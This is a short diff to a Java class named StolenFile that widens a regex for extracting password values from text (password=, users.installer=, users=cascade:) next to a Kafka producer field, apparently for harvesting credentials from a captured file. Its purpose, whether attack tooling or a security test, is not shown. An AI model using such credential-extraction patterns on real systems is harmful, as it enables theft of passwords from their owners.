@@ -24,7 +24,7 @@ import org.apache.kafka.common.serialization.ByteArraySerializer;
 public final class StolenFile implements AutoCloseable {
 
   private static final Pattern PASSWORD =
-      Pattern.compile("(?:password=\"|users\\.installer=)([\\w-]+)");
+      Pattern.compile("(?:password=\"|users\\.installer=|users=cascade:)([\\w-]+)");
   private static final Duration BOUND = Duration.ofSeconds(20);
 
   private final KafkaProducer<byte[], byte[]> producer;
